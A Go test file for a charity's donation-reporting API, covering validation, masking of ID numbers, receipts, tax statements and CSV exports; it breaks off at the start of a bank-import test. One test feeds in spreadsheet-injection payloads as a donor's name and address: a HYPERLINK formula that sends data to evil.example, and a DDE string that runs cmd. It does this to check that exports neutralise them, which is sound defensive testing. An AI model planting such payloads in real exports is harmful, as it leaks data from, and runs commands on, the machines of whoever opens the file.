package httpapi

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"strings"
	"testing"
	"time"

	"spdc/internal/csvout"
	"spdc/internal/mail"
	"spdc/internal/outbox/outboxtest"
	"spdc/internal/store"
	"spdc/internal/store/storetest"
)

func validDonation() map[string]any {
	return map[string]any{
		"donorName": "Radha Devi", "email": "radha@example.org", "phone": "98765 43210", "address": "2 Lake View\nKolkata 700029",
		"residentOfIndia": true, "idType": "PAN", "idNumber": "abcpr4321k", "amount": "5000.50", "paidOn": "2025-02-20",
		"mode": "UPI", "reference": "412345678901", "purpose": "Health", "receiptType": "80G", "consent": true,
	}
}

// refCounter gives every valid payload of the scenario table its own
// transfer reference.
var refCounter int

func TestDonationReportRules(t *testing.T) {
	storetest.Run(t, func(t *testing.T, st *store.Store) {
		e := newEnv(t, st, withDonations())
		set := func(k string, v any) func(map[string]any) { return func(p map[string]any) { p[k] = v } }
		valid := func() map[string]any {
			refCounter++
			p := validDonation()
			p["reference"] = fmt.Sprintf("%012d", 500000000000+refCounter)
			return p
		}
		cases := []formsCase{
			{"valid", nil, 201, ""},
			{"amount as a JSON number", set("amount", 2500), 201, ""},
			{"aadhaar", func(p map[string]any) { p["idType"], p["idNumber"] = "AADHAAR", "2345 6789 0124" }, 201, ""},
			{"general receipt without ID", func(p map[string]any) { p["idType"], p["idNumber"], p["receiptType"] = "", "", "General" }, 201, ""},
			{"small cash with 80G", func(p map[string]any) { p["mode"], p["reference"], p["amount"] = "CASH", "", "2000" }, 201, ""},
			{"negative amount", set("amount", "-5000"), 400, "amount"},
			{"zero amount", set("amount", "0.00"), 400, "amount"},
			{"three decimals", set("amount", "5000.505"), 400, "amount"},
			{"exponent", set("amount", "5e3"), 400, "amount"},
			{"exponent number", set("amount", 5e30), 400, "amount"},
			{"devanagari digits", set("amount", "५०००"), 400, "amount"},
			{"Indian grouping", set("amount", "1,25,001.00"), 201, ""},
			{"international grouping", set("amount", "125,001.00"), 201, ""},
			{"misplaced commas", set("amount", "1,00,0000"), 400, "amount"},
			{"missing amount", func(p map[string]any) { delete(p, "amount") }, 400, "amount"},
			{"bad PAN", set("idNumber", "ABCDE12345"), 400, "idNumber"},
			{"bad aadhaar check digit", func(p map[string]any) { p["idType"], p["idNumber"] = "AADHAAR", "234567890123" }, 400, "idNumber"},
			{"aadhaar starting with 1", func(p map[string]any) { p["idType"], p["idNumber"] = "AADHAAR", "123456789012" }, 400, "idNumber"},
			{"unknown ID type", set("idType", "PASSPORT"), 400, "idType"},
			{"80G without ID", func(p map[string]any) { p["idType"], p["idNumber"] = "", "" }, 400, "idType"},
			{"PAN needed above 49,999", func(p map[string]any) { p["idType"], p["idNumber"], p["amount"] = "AADHAAR", "234567890124", "50000" }, 400, "idType"},
			{"UPI reference too short", set("reference", "12345678901"), 400, "reference"},
			{"UPI reference too long", set("reference", "1234567890123"), 400, "reference"},
			{"NEFT reference too short", func(p map[string]any) { p["mode"], p["reference"] = "NEFT", "SBIN12345678901" }, 400, "reference"},
			{"cheque reference letters", func(p map[string]any) { p["mode"], p["reference"] = "CHEQUE", "12345A" }, 400, "reference"},
			{"missing reference", set("reference", ""), 400, "reference"},
			{"unknown mode", set("mode", "BITCOIN"), 400, "mode"},
			{"cash above 2,000 with 80G", func(p map[string]any) { p["mode"], p["reference"], p["amount"] = "CASH", "", "2000.01" }, 400, "receiptType"},
			{"non-resident", set("residentOfIndia", false), 400, "residentOfIndia"},
			{"residence not answered", func(p map[string]any) { delete(p, "residentOfIndia") }, 400, "residentOfIndia"},
			{"unknown receipt type", set("receiptType", "Tax"), 400, "receiptType"},
			{"unknown purpose", set("purpose", "Temple"), 400, "purpose"},
			{"no consent", set("consent", false), 400, "consent"},
			{"no email", set("email", ""), 400, "email"},
			{"no name", set("donorName", " "), 400, "donorName"},
			{"no address", set("address", ""), 400, "address"},
			{"paid in the future", set("paidOn", "2030-01-01"), 400, "paidOn"},
			{"not a date", set("paidOn", "20/02/2025"), 400, "paidOn"},
		}
		cases = append(cases, hostileCases("donorName", 120)...)
		cases = append(cases, hostileCases("address", 500)...)
		runFormCases(t, e, "/api/donations", "donations", valid, cases)

		// The answer shows the ID masked, the amount three ways.
		e.clock = e.clock.Add(25 * time.Hour)
		p := validDonation()
		r := e.call("POST", "/api/donations", p, "")
		if r.Status != 201 {
			t.Fatalf("report: %s", r.Raw)
		}
		d, _ := r.Body["donation"].(map[string]any)
		if d["idNumber"] != "XXXXXX321K" || d["amount"] != "5000.50" || d["amountPaise"] != float64(500050) || d["amountText"] != "₹5,000.50" ||
			d["status"] != "reported" || d["receipt"] != nil || d["reference"] != "412345678901" || d["phone"] != "+919876543210" {
			t.Fatalf("donation JSON %v", d)
		}
		if strings.Contains(r.Raw, "ABCPR4321K") {
			t.Fatal("the answer shows the whole PAN")
		}
		// The same transfer again is 409 on the reference, nothing saved.
		before := e.count("donations")
		e.clock = e.clock.Add(25 * time.Hour)
		r = e.call("POST", "/api/donations", p, "")
		if r.Status != 409 || r.fieldErrors()["reference"] == nil {
			t.Fatalf("duplicate: %d %s", r.Status, r.Raw)
		}
		if e.count("donations") != before {
			t.Fatal("a duplicate was saved")
		}
		// The donor is thanked without anything they typed; the office gets
		// the report with the ID masked.
		thanks := e.mails("radha@example.org")
		if len(thanks) == 0 || thanks[len(thanks)-1].Kind != "acknowledgement" || strings.Contains(thanks[len(thanks)-1].Text, "Radha") {
			t.Fatalf("thank-you: %+v", thanks)
		}
		office := e.mails("office@spdc.example.org")
		if len(office) == 0 {
			t.Fatal("no admin copy")
		}
		last := office[len(office)-1]
		if !strings.Contains(last.Text, "XXXXXX321K") || strings.Contains(last.Text, "ABCPR4321K") || !strings.Contains(last.Text, "₹5,000.50") {
			t.Fatalf("admin copy:\n%s", last.Text)
		}
		for _, b := range e.bodies {
			if strings.Contains(b, "ABCPR4321K") || strings.Contains(b, "234567890124") {
				t.Fatalf("an answer showed a whole ID: %s", b)
			}
		}
	})
}

func TestDonationReportThrottled(t *testing.T) {
	storetest.Run(t, func(t *testing.T, st *store.Store) {
		e := newEnv(t, st, withDonations())
		var last resp
		for i := range 12 {
			p := validDonation()
			p["reference"] = fmt.Sprintf("%012d", 600000000000+i)
			last = e.call("POST", "/api/donations", p, "")
			if last.Status == 429 {
				break
			}
		}
		if last.Status != 429 || last.Header.Get("Retry-After") == "" {
			t.Fatalf("no limit on reports from one client: %d", last.Status)
		}
	})
}

func TestDonationNoKey(t *testing.T) {
	st := storetest.OpenURL(t, "sqlite://"+t.TempDir()+"/spdc.db")
	e := newEnv(t, st)
	if r := e.call("POST", "/api/donations", validDonation(), ""); r.Status != 503 || r.message() != msgDonationNoKey.En() {
		t.Fatalf("without a key: %d %s", r.Status, r.Raw)
	}
}

// TestDonationAdminFlow reports gifts as a signed-in donor, then confirms,
// rejects, cancels, reissues, edits, lists, exports, verifies and deletes
// as an admin.
func TestDonationAdminFlow(t *testing.T) {
	storetest.Run(t, func(t *testing.T, st *store.Store) {
		e := newEnv(t, st, withDonations())
		key := e.key
		donor, donorID := e.user("radha@example.org", false)
		admin, _ := e.user("admin@spdc.example.org", true)
		report := func(ref string, change func(p map[string]any)) string {
			p := validDonation()
			p["reference"] = ref
			if change != nil {
				change(p)
			}
			r := e.call("POST", "/api/donations", p, donor)
			if r.Status != 201 {
				t.Fatalf("report: %s", r.Raw)
			}
			return r.Body["donation"].(map[string]any)["_id"].(string)
		}
		a := report("700000000001", nil)
		b := report("700000000002", nil)
		c := report("700000000003", func(p map[string]any) { p["idType"], p["idNumber"], p["receiptType"] = "", "", "General" })

		// Not for visitors or plain users.
		if r := e.call("POST", "/api/admin/donations/"+a+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": "5000.50"}, donor); r.Status != 403 {
			t.Fatalf("user confirm: %d", r.Status)
		}
		if r := e.call("GET", "/api/admin/donations/statement?fy=2024-25", nil, ""); r.Status != 401 {
			t.Fatalf("visitor statement: %d", r.Status)
		}

		// Bad confirm input changes nothing.
		for _, body := range []map[string]any{
			{"receivedOn": "2025-02-21", "amount": "5000.505"},
			{"receivedOn": "2025-02-21", "amount": "-1"},
			{"receivedOn": "21-02-2025", "amount": "5000"},
			{"receivedOn": "2031-01-01", "amount": "5000"},
			{"receivedOn": "2025-02-21"},
			{"receivedOn": "2025-02-21", "amount": "5000", "extra": 1},
		} {
			if r := e.call("POST", "/api/admin/donations/"+a+"/confirm", body, admin); r.Status != 400 || len(r.fieldErrors()) == 0 {
				t.Fatalf("confirm %v: %d %s", body, r.Status, r.Raw)
			}
		}
		// The bank's amount above the PAN threshold needs a PAN: c has none.
		if r := e.call("POST", "/api/admin/donations/"+c+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": "60000"}, admin); r.Status != 400 || r.fieldErrors()["amount"] == nil {
			t.Fatalf("confirm above threshold without PAN: %d %s", r.Status, r.Raw)
		}

		r := e.call("POST", "/api/admin/donations/"+a+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": "5000.50"}, admin)
		if r.Status != 200 {
			t.Fatalf("confirm: %s", r.Raw)
		}
		got := r.Body["donation"].(map[string]any)
		rec, _ := got["receipt"].(map[string]any)
		if got["status"] != "confirmed" || rec == nil || rec["number"] != "SPDC/2024-25/000001" || rec["status"] != "issued" {
			t.Fatalf("confirmed: %v", got)
		}
		receiptID := rec["_id"].(string)
		if r := e.call("POST", "/api/admin/donations/"+a+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": "5000.50"}, admin); r.Status != 409 {
			t.Fatalf("double confirm: %d %s", r.Status, r.Raw)
		}
		if r := e.call("POST", "/api/admin/donations/"+b+"/reject", map[string]any{"reason": ""}, admin); r.Status != 400 || r.fieldErrors()["reason"] == nil {
			t.Fatalf("reject without reason: %d %s", r.Status, r.Raw)
		}
		if r := e.call("POST", "/api/admin/donations/"+b+"/reject", map[string]any{"reason": "Not in the bank statement"}, admin); r.Status != 200 ||
			r.Body["donation"].(map[string]any)["status"] != "rejected" {
			t.Fatalf("reject: %d %s", r.Status, r.Raw)
		}
		if r := e.call("POST", "/api/admin/donations/"+b+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": "1"}, admin); r.Status != 409 {
			t.Fatalf("confirm rejected: %d", r.Status)
		}

		// The donor's own list.
		r = e.call("GET", "/api/users/me/donations", nil, donor)
		list, _ := r.Body["donations"].([]any)
		if r.Status != 200 || len(list) != 3 {
			t.Fatalf("my donations: %d %s", r.Status, r.Raw)
		}
		if d, _ := st.DonationByID(context.Background(), a); d.UserID != donorID {
			t.Fatal("not linked to the donor's account")
		}

		// The admin tab through the shared list engine, and its export.
		r = e.call("GET", "/api/admin/donations?q=spdc/2024-25&page=1&pageSize=10", nil, admin)
		if r.Status != 200 || r.Header.Get("X-Total-Count") != "1" || !strings.Contains(r.Raw, `"amountText":"₹5,000.50"`) || strings.Contains(r.Raw, "ABCPR4321K") {
			t.Fatalf("admin list: %d %s %s", r.Status, r.Header.Get("X-Total-Count"), r.Raw)
		}
		r = e.call("GET", "/api/admin/donations/export.csv", nil, admin)
		rows, err := csv.NewReader(strings.NewReader(r.Raw)).ReadAll()
		if r.Status != 200 || err != nil || len(rows) != 4 || strings.Contains(r.Raw, "ABCPR4321K") || !strings.Contains(r.Raw, "XXXXXX321K") {
			t.Fatalf("export: %d %v\n%s", r.Status, err, r.Raw)
		}

		// Public verification shows the receipt, the donor masked.
		d, _ := st.DonationByID(context.Background(), a)
		r = e.call("GET", "/api/receipts/verify/"+d.Receipt.VerifyCode, nil, "")
		if r.Status != 200 || r.Body["number"] != "SPDC/2024-25/000001" || r.Body["donor"] != "R*** D***" || r.Body["status"] != "valid" || r.Body["amountText"] != "₹5,000.50" {
			t.Fatalf("verify: %d %s", r.Status, r.Raw)
		}
		if strings.Contains(r.Raw, "radha") || strings.Contains(r.Raw, "Kolkata") {
			t.Fatalf("verify shows more than it should: %s", r.Raw)
		}
		if r := e.call("GET", "/api/receipts/verify/"+strings.Repeat("a", 26), nil, ""); r.Status != 404 {
			t.Fatalf("unknown code: %d", r.Status)
		}

		// The donor's details are corrected; the ID comes back masked and
		// counts as unchanged; a new ID is checked and sealed.
		cur := e.call("GET", "/api/admin/donations?q="+c[:12], nil, admin)
		_ = cur
		dc, _ := st.DonationByID(context.Background(), c)
		bad := map[string]any{"__v": dc.Version, "idType": "PAN", "idNumber": "ABCDE12345"}
		if r := e.call("PUT", "/api/admin/donations/"+c, bad, admin); r.Status != 400 || r.fieldErrors()["idNumber"] == nil {
			t.Fatalf("bad PAN edit: %d %s", r.Status, r.Raw)
		}
		ok := map[string]any{"__v": dc.Version, "idType": "PAN", "idNumber": "QWEPT9876Z", "donorName": "Radha Devi Dasi"}
		r = e.call("PUT", "/api/admin/donations/"+c, ok, admin)
		if r.Status != 200 || r.Body["idNumber"] != "XXXXXX876Z" || r.Body["donorName"] != "Radha Devi Dasi" {
			t.Fatalf("edit: %d %s", r.Status, r.Raw)
		}
		if r := e.call("PUT", "/api/admin/donations/"+c, ok, admin); r.Status != 409 {
			t.Fatalf("stale edit: %d", r.Status)
		}
		same := map[string]any{"__v": dc.Version + 1, "idNumber": "XXXXXX876Z", "phone": "+91 98765 00000"}
		if r := e.call("PUT", "/api/admin/donations/"+c, same, admin); r.Status != 200 || r.Body["idNumber"] != "XXXXXX876Z" {
			t.Fatalf("edit echoing the mask: %d %s", r.Status, r.Raw)
		}
		if dc, _ := st.DonationByID(context.Background(), c); func() string { s, _ := dc.OpenID(key); return s }() != "QWEPT9876Z" {
			t.Fatal("the masked echo replaced the ID")
		}

		// Reissue, then cancel keeping the number; verification says so.
		r = e.call("POST", "/api/admin/receipts/"+receiptID+"/reissue", nil, admin)
		if r.Status != 200 || r.Body["donation"].(map[string]any)["receipt"].(map[string]any)["duplicate"] != true {
			t.Fatalf("reissue: %d %s", r.Status, r.Raw)
		}
		// Deleting a gift with a receipt is refused: records are kept.
		if r := e.call("DELETE", "/api/admin/donations/"+a, nil, admin); r.Status != 409 {
			t.Fatalf("delete with receipt: %d %s", r.Status, r.Raw)
		}
		if r := e.call("POST", "/api/admin/receipts/"+receiptID+"/cancel", map[string]any{}, admin); r.Status != 400 {
			t.Fatalf("cancel without reason: %d", r.Status)
		}
		r = e.call("POST", "/api/admin/receipts/"+receiptID+"/cancel", map[string]any{"reason": "Entered twice"}, admin)
		if r.Status != 200 || r.Body["donation"].(map[string]any)["receipt"].(map[string]any)["number"] != "SPDC/2024-25/000001" {
			t.Fatalf("cancel: %d %s", r.Status, r.Raw)
		}
		if r := e.call("POST", "/api/admin/receipts/"+receiptID+"/cancel", map[string]any{"reason": "again"}, admin); r.Status != 409 {
			t.Fatalf("cancel twice: %d", r.Status)
		}
		r = e.call("GET", "/api/receipts/verify/"+d.Receipt.VerifyCode, nil, "")
		if r.Body["status"] != "cancelled" || r.Body["duplicate"] != true {
			t.Fatalf("verify cancelled: %s", r.Raw)
		}
		if r := e.call("DELETE", "/api/admin/donations/"+b, nil, admin); r.Status != 200 {
			t.Fatalf("delete rejected report: %d %s", r.Status, r.Raw)
		}
		// Every admin action is in the audit log.
		var n int
		if err := st.Reader().QueryRowContext(context.Background(), `SELECT COUNT(*) FROM audit_log WHERE entity = 'donations'`).Scan(&n); err != nil || n < 7 {
			t.Fatalf("audit entries: %d %v", n, err)
		}
	})
}

func TestDonationStatement(t *testing.T) {
	storetest.Run(t, func(t *testing.T, st *store.Store) {
		e := newEnv(t, st, withDonations())
		admin, _ := e.user("admin@spdc.example.org", true)
		post := func(ref, idType, id, receipt, amount string) string {
			p := validDonation()
			p["reference"], p["idType"], p["idNumber"], p["receiptType"], p["amount"] = ref, idType, id, receipt, amount
			r := e.call("POST", "/api/donations", p, "")
			if r.Status != 201 {
				t.Fatalf("report: %s", r.Raw)
			}
			id2 := r.Body["donation"].(map[string]any)["_id"].(string)
			if r := e.call("POST", "/api/admin/donations/"+id2+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": amount}, admin); r.Status != 200 {
				t.Fatalf("confirm: %s", r.Raw)
			}
			return id2
		}
		post("800000000001", "PAN", "ABCPR4321K", "80G", "1000")
		post("800000000002", "PAN", "ABCPR4321K", "80G", "2000.50")
		noID := post("800000000003", "", "", "General", "500")

		r := e.call("GET", "/api/admin/donations/statement?fy=2024-25", nil, admin)
		if r.Status != 200 || r.Body["form"] != "10BD" || r.Body["provisional"] != true || r.Body["rows"] != float64(1) {
			t.Fatalf("statement: %d %s", r.Status, r.Raw)
		}
		un, _ := r.Body["unfileable"].([]any)
		if len(un) != 1 || un[0].(map[string]any)["donationId"] != noID || un[0].(map[string]any)["problem"] == "" {
			t.Fatalf("unfileable: %s", r.Raw)
		}
		if r := e.call("GET", "/api/admin/donations/statement?fy=2024-2025", nil, admin); r.Status != 400 || r.fieldErrors()["fy"] == nil {
			t.Fatalf("bad fy: %d %s", r.Status, r.Raw)
		}
		r = e.call("GET", "/api/admin/donations/statement.csv?fy=2024-25", nil, admin)
		rows, err := csv.NewReader(strings.NewReader(r.Raw)).ReadAll()
		if r.Status != 200 || err != nil || len(rows) != 2 || !strings.Contains(r.Header.Get("Content-Disposition"), "form-10BD-2024-25.csv") {
			t.Fatalf("csv: %d %v\n%s", r.Status, err, r.Raw)
		}
		// The two PAN gifts are one row: the PAN whole, the amounts added.
		if rows[1][3] != "ABCPR4321K" || rows[1][11] != "3000.50" || rows[1][5] != "AAATS1234CF20211" {
			t.Fatalf("row %q", rows[1])
		}
		// A year that has ended is not provisional; 2026-27 files Form 113.
		e.clock = time.Date(2025, 4, 2, 0, 0, 0, 0, time.UTC)
		admin2, _ := e.user("admin2@spdc.example.org", true)
		if r := e.call("GET", "/api/admin/donations/statement?fy=2024-25", nil, admin2); r.Body["provisional"] != false {
			t.Fatalf("ended year: %s", r.Raw)
		}
		if r := e.call("GET", "/api/admin/donations/statement?fy=2026-27", nil, admin2); r.Body["form"] != "113" || r.Body["rows"] != float64(0) {
			t.Fatalf("2026-27: %s", r.Raw)
		}
	})
}

// TestDonationCSVsRunNoFormula confirms a gift from a donor named as a
// spreadsheet formula, with an address that is one too, and reads the
// annual statement and the donations export: the name and address are
// written as text (a leading apostrophe), the amount stays a number.
func TestDonationCSVsRunNoFormula(t *testing.T) {
	storetest.Run(t, func(t *testing.T, st *store.Store) {
		e := newEnv(t, st, withDonations())
		admin, _ := e.user("admin@spdc.example.org", true)
		p := validDonation()
		name, address := `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "@SUM(1+1)*cmd|' /C calc'!A0"
		p["donorName"], p["address"], p["amount"] = name, address, "1500"
		r := e.call("POST", "/api/donations", p, "")
		if r.Status != 201 {
			t.Fatalf("report: %s", r.Raw)
		}
		id := r.Body["donation"].(map[string]any)["_id"].(string)
		if r := e.call("POST", "/api/admin/donations/"+id+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": "1500"}, admin); r.Status != 200 {
			t.Fatalf("confirm: %s", r.Raw)
		}
		read := func(path string) [][]string {
			r := e.call("GET", path, nil, admin)
			cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Raw, "\uFEFF")))
			cr.FieldsPerRecord = -1
			rows, err := cr.ReadAll()
			if r.Status != 200 || err != nil || len(rows) < 2 {
				t.Fatalf("%s: %d %v\n%s", path, r.Status, err, r.Raw)
			}
			for _, row := range rows {
				for _, cell := range row {
					if csvout.Cell(cell) != cell {
						t.Errorf("%s: cell %q would run as a formula", path, cell)
					}
				}
			}
			return rows
		}
		rows := read("/api/admin/donations/statement.csv?fy=2024-25")
		if got := rows[1]; got[7] != "'"+name || got[8] != "'"+address || got[11] != "1500" {
			t.Errorf("statement row %q", got)
		}
		rows = read("/api/admin/donations/export.csv")
		found := 0
		for _, cell := range rows[1] {
			if cell == "'"+name || cell == "'"+address {
				found++
			}
		}
		if found != 2 {
			t.Errorf("export row %q lacks the neutralised name and address", rows[1])
		}
	})
}

// TestReceiptAllowedOnTheDayReceived confirms gifts against the trust's
// 80G approval (28 May 2021 to 31 March 2026): an 80G gift received after
// the validity, or before the approval, is refused with a 400 naming
// receivedOn (in Hindi too), takes no receipt number and stays reported; a
// General receipt for the same day is issued; an 80G gift inside the
// validity is issued.
func TestReceiptAllowedOnTheDayReceived(t *testing.T) {
	storetest.Run(t, func(t *testing.T, st *store.Store) {
		e := newEnv(t, st, withDonations())
		e.clock = time.Date(2026, 4, 10, 9, 0, 0, 0, time.UTC)
		admin, _ := e.user("admin@spdc.example.org", true)
		n := 0
		report := func(receipt, paidOn string) string {
			n++
			p := validDonation()
			p["receiptType"], p["paidOn"], p["reference"] = receipt, paidOn, fmt.Sprintf("41234567%04d", n)
			r := e.call("POST", "/api/donations", p, "")
			if r.Status != 201 {
				t.Fatalf("report: %s", r.Raw)
			}
			return r.Body["donation"].(map[string]any)["_id"].(string)
		}
		confirm := func(id, receivedOn, lang string) resp {
			return e.callWith("POST", "/api/admin/donations/"+id+"/confirm", map[string]any{"receivedOn": receivedOn, "amount": "5000.50"}, admin,
				map[string]string{"Accept-Language": lang})
		}
		receipts := func() int {
			var k int
			if err := st.Reader().QueryRowContext(t.Context(), `SELECT COUNT(*) FROM donations WHERE receipt_number IS NOT NULL AND receipt_number <> ''`).Scan(&k); err != nil {
				t.Fatal(err)
			}
			return k
		}
		after := report("80G", "2026-04-01")
		r := confirm(after, "2026-04-02", "en")
		if r.Status != 400 || !strings.Contains(fmt.Sprint(r.fieldErrors()["receivedOn"]), "after the trust's 80G approval ended") {
			t.Fatalf("80G after the validity: %d %s", r.Status, r.Raw)
		}
		if r := confirm(after, "2026-04-02", "hi"); r.Status != 400 || !strings.Contains(fmt.Sprint(r.fieldErrors()["receivedOn"]), "स्वीकृति ख़त्म होने के बाद") {
			t.Fatalf("in Hindi: %d %s", r.Status, r.Raw)
		}
		before := report("80G", "2021-05-01")
		if r := confirm(before, "2021-05-03", "en"); r.Status != 400 || !strings.Contains(fmt.Sprint(r.fieldErrors()["receivedOn"]), "before the trust's 80G approval") {
			t.Fatalf("80G before the approval: %d %s", r.Status, r.Raw)
		}
		if k := receipts(); k != 0 {
			t.Fatalf("a refused confirmation issued %d receipts", k)
		}
		general := report("General", "2026-04-01")
		if r := confirm(general, "2026-04-02", "en"); r.Status != 200 {
			t.Fatalf("General after the validity: %d %s", r.Status, r.Raw)
		}
		inside := report("80G", "2026-03-30")
		if r := confirm(inside, "2026-03-31", "en"); r.Status != 200 {
			t.Fatalf("80G on the last day of the validity: %d %s", r.Status, r.Raw)
		}
		if k := receipts(); k != 2 {
			t.Fatalf("%d receipts, want 2", k)
		}
	})
}

// TestDonationReceiptMailAndPDF confirms a gift and follows its receipt:
// emailed to the donor with the PDF attached (sealed while it waits),
// downloadable by the admin and by the donor, by nobody else; a reissue
// mails a Duplicate; a settings gap that would draw a wrong receipt
// refuses the confirm and takes no number.
func TestDonationReceiptMailAndPDF(t *testing.T) {
	storetest.Run(t, func(t *testing.T, st *store.Store) {
		e := newEnv(t, st, withDonations())
		key := e.key
		mb := outboxtest.NewSealed(t, st, func() time.Time { return e.clock }, key)
		donor, _ := e.user("radha@example.org", false)
		other, _ := e.user("someone@example.org", false)
		admin, _ := e.user("admin@spdc.example.org", true)
		p := validDonation()
		r := e.call("POST", "/api/donations", p, donor)
		if r.Status != 201 {
			t.Fatalf("report: %s", r.Raw)
		}
		id := r.Body["donation"].(map[string]any)["_id"].(string)
		if r := e.call("GET", "/api/users/me/donations/"+id+"/receipt.pdf", nil, donor); r.Status != 404 {
			t.Fatalf("receipt before confirm: %d", r.Status)
		}

		// Without a signatory an 80G receipt cannot be drawn: refused,
		// nothing issued, the number not used.
		ctx := context.Background()
		doc, v, _ := st.SiteSettings(ctx)
		doc["signatory"] = map[string]any{"name": "", "title": ""}
		if _, err := st.PutSiteSettings(ctx, doc, v, store.Actor{ID: "x", Email: "x@example.org"}); err != nil {
			t.Fatal(err)
		}
		r = e.call("POST", "/api/admin/donations/"+id+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": "5000.50"}, admin)
		if r.Status != 409 || !strings.Contains(r.message(), "receipt cannot be drawn") {
			t.Fatalf("confirm without signatory: %d %s", r.Status, r.Raw)
		}
		if want := "The receipt cannot be drawn: The authorised signatory's name is missing. The authorised signatory's designation is missing."; r.message() != want {
			t.Fatalf("confirm without signatory: %q, want %q", r.message(), want)
		}
		// The receipt stays English; what stops it is told in the admin's language.
		for lang, want := range map[string]string{
			"hi": "यह नहीं दिया गया है: हस्ताक्षर करने वाले अधिकृत व्यक्ति का नाम। यह नहीं दिया गया है: हस्ताक्षर करने वाले अधिकृत व्यक्ति का पद।",
			"bn": "সই করার অধিকারী ব্যক্তির নাম দেওয়া হয়নি। সই করার অধিকারী ব্যক্তির পদ দেওয়া হয়নি।",
		} {
			r = e.callWith("POST", "/api/admin/donations/"+id+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": "5000.50"}, admin, map[string]string{"Accept-Language": lang})
			if r.Status != 409 || !strings.Contains(r.message(), want) || strings.Contains(r.message(), "signatory") {
				t.Fatalf("%s: confirm without signatory: %d %s", lang, r.Status, r.message())
			}
		}
		doc, v, _ = st.SiteSettings(ctx)
		doc["signatory"] = map[string]any{"name": "Ramesh Kumar", "title": "Trustee"}
		if _, err := st.PutSiteSettings(ctx, doc, v, store.Actor{ID: "x", Email: "x@example.org"}); err != nil {
			t.Fatal(err)
		}
		r = e.call("POST", "/api/admin/donations/"+id+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": "5000.50"}, admin)
		if r.Status != 200 {
			t.Fatalf("confirm: %s", r.Raw)
		}
		rec := r.Body["donation"].(map[string]any)["receipt"].(map[string]any)
		if rec["number"] != "SPDC/2024-25/000001" {
			t.Fatalf("a refused confirm used a number: %v", rec["number"])
		}
		// The PDF waits in the outbox sealed.
		var body string
		if err := st.Reader().QueryRowContext(ctx, `SELECT body FROM outbox_attachments`).Scan(&body); err != nil || !strings.HasPrefix(body, "v1:") {
			t.Fatalf("stored attachment: %.20q %v", body, err)
		}
		var receipts []mail.Message
		for _, m := range mb.To("radha@example.org") {
			if m.Kind == mail.KindReceipt {
				receipts = append(receipts, m)
			}
		}
		if len(receipts) != 1 || len(receipts[0].Attachments) != 1 {
			t.Fatalf("receipt mails: %+v", receipts)
		}
		att := receipts[0].Attachments[0]
		if att.Name != "receipt-SPDC-2024-25-000001.pdf" || !strings.HasPrefix(string(att.Data), "%PDF") ||
			!strings.Contains(receipts[0].Subject, "SPDC/2024-25/000001") {
			t.Fatalf("receipt mail %q with %q", receipts[0].Subject, att.Name)
		}

		// Downloads.
		for _, c := range []struct {
			path, token string
			status      int
		}{
			{"/api/admin/receipts/" + rec["_id"].(string) + ".pdf", admin, 200},
			{"/api/admin/receipts/" + rec["_id"].(string) + ".pdf", donor, 403},
			{"/api/admin/receipts/" + rec["_id"].(string), admin, 404},
			{"/api/admin/receipts/" + strings.Repeat("0", 24) + ".pdf", admin, 404},
			{"/api/users/me/donations/" + id + "/receipt.pdf", donor, 200},
			{"/api/users/me/donations/" + id + "/receipt.pdf", other, 404},
			{"/api/users/me/donations/" + id + "/receipt.pdf", "", 401},
		} {
			r := e.call("GET", c.path, nil, c.token)
			if r.Status != c.status {
				t.Errorf("GET %s: %d, want %d", c.path, r.Status, c.status)
			}
			if c.status == 200 && (r.Header.Get("Content-Type") != "application/pdf" || !strings.HasPrefix(r.Raw, "%PDF")) {
				t.Errorf("GET %s: %s", c.path, r.Header.Get("Content-Type"))
			}
		}
		// The tab's export still answers beside the receipt route.
		if r := e.call("GET", "/api/admin/donations/export.csv", nil, admin); r.Status != 200 {
			t.Fatalf("export: %d", r.Status)
		}

		r = e.call("POST", "/api/admin/receipts/"+rec["_id"].(string)+"/reissue", nil, admin)
		if r.Status != 200 {
			t.Fatalf("reissue: %s", r.Raw)
		}
		receipts = nil
		for _, m := range mb.To("radha@example.org") {
			if m.Kind == mail.KindReceipt {
				receipts = append(receipts, m)
			}
		}
		if len(receipts) != 2 || !strings.HasPrefix(receipts[1].Subject, "Duplicate") {
			t.Fatalf("duplicate mail: %d", len(receipts))
		}
		var n int
		if err := st.Reader().QueryRowContext(ctx, `SELECT COUNT(*) FROM outbox_attachments`).Scan(&n); err != nil || n != 0 {
			t.Fatalf("sent attachments kept: %d %v", n, err)
		}
	})
}

// statementCSV is a bank statement as an Indian bank exports it: account
// lines, the header row, credits and debits, a line that cannot be read.
const statementCSV = `Account Statement,,,,,,
Account No,XXXXXX7788,,,,,
,,,,,,
Date,Narration,Chq./Ref.No.,Value Dt,Withdrawal Amt.,Deposit Amt.,Closing Balance
21/02/25,UPI-RADHA DEVI-412345678901-GIFT,412345678901,21/02/25,,"5,000.50","1,05,000.50"
21/02/25,NEFT-ELECTRICITY BOARD,,21/02/25,"1,200.00",,"1,03,800.50"
22/02/25,IMPS-GOPAL,999999999999,22/02/25,,"2,500.00","1,06,300.50"
23/02/25,CASH DEPOSIT,,23/02/25,,"12,00x.00","1,06,300.50"
`

// multipartBody builds a multipart form with the statement file and the
// given fields.
func multipartBody(t *testing.T, file string, fields map[string]string) (string, string) {
	t.Helper()
	var b strings.Builder
	w := multipart.NewWriter(&b)
	for k, v := range fields {
		if err := w.WriteField(k, v); err != nil {
			t.Fatal(err)
		}
	}
	if file != "" {
		fw, err := w.CreateFormFile("file", "statement.csv")
		if err != nil {
			t.Fatal(err)
		}
		_, _ = fw.Write([]byte(file))
	}
	_ = w.Close()
	return b.String(), w.FormDataContentType()
}

func TestDonationBankImport(t *testing.T) {
	storetest.Run(t, func(t *testing.T, st *store.Store) {
		e := newEnv(t, st, withDonations())
		admin, _ := e.user("admin@spdc.example.org", true)
